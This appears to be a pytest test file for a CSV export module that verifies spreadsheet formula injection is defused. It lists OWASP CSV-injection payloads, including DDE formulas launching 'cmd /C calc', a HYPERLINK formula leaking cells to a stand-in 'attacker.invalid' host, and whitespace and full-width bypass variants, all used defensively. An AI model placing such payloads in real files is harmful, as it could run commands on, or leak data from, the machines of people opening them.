"""Exported text never runs in a spreadsheet: OWASP's CSV-injection payloads come out inert."""

from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest

from tessera.export import COLUMNS, export_events
from tessera.export.acled import NUMERIC_COLUMNS
from tessera.export.cells import FORMULA_STARTS, number_cell, text_cell
from tessera.model import Actor, Event, Place, Source, Span, TimeSpan, Victims

# OWASP's CSV-injection examples, and the ways around a naive check: leading whitespace,
# a tab or carriage return first, a quote that tries to close the cell, the full-width sign.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.invalid/?leak="&A1&A2,"Error: please click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "   =1+2",
    "\uff1d1+2",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]


def hostile_event(payload: str, n: int) -> Event:
    doc = f"{payload}-doc{n}"
    place = Place(payload, "KP", payload, payload, 41.4, -128.18, "city", payload)
    return Event(
        type="arrest",
        status="occurred",
        evidence=[Span(doc, 0, len(payload), payload)],
        sources=[Source(doc, payload, "http://example.invalid/" + str(n), "2023-05-02")],
        summary=payload,
        when=TimeSpan(date(2023, 5, 2), date(2023, 5, 2), "day", payload),
        where=place,
        perpetrators=[Actor(payload, "KP", "police")],
        victims=Victims(payload, 3, 3, "traders"),
        id=f"{payload}{n}",
    )


def exported_rows(events: list[Event]) -> list[dict[str, str]]:
    out = io.StringIO()
    export_events(events, "acled-csv", out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_cell_can_start_a_formula(payload: str) -> None:
    rows = exported_rows([hostile_event(payload, 1)])
    assert len(rows) == 1
    row = rows[0]
    for column in COLUMNS:
        cell = row[column]
        if column in NUMERIC_COLUMNS:
            assert cell == "" or float(cell) == float(cell), (column, cell)  # a number or nothing
            continue
        assert cell[:1] not in FORMULA_STARTS and cell.lstrip()[:1] not in FORMULA_STARTS, (column, cell)
    # The payload survives, quoted as text, exactly: readers lose nothing.
    assert row["source"] == "'" + payload
    assert row["location"] == "'" + payload and row["admin1"] == "'" + payload
    assert row["tessera_id"] == "'" + f"{payload}1"


def test_numbers_stay_numbers_and_negative_numbers_are_not_quoted() -> None:
    events = [hostile_event(p, i) for i, p in enumerate(PAYLOADS)]
    out = io.StringIO()
    export_events(events, "acled-csv", out)
    df = pd.read_csv(io.StringIO(out.getvalue()))
    assert (df["longitude"] == -128.18).all() and (df["latitude"] == 41.4).all()
    assert str(df["longitude"].dtype) == "float64" and str(df["year"].dtype) == "int64"
    assert ",-128.1800," in out.getvalue()  # a bare negative number, not a quoted text cell


def test_cells_by_kind() -> None:
    assert text_cell("Daily Report") == "Daily Report" and text_cell(None) == ""
    assert text_cell("-3 people") == "'-3 people" and text_cell(" @x") == "' @x"
    assert str(number_cell("-33.1000")) == "-33.1000" and number_cell(-2) == -2 and number_cell("") == ""
    assert number_cell("-1+1") == "'-1+1"  # not a number: text, made safe
    assert set(NUMERIC_COLUMNS) <= set(COLUMNS)
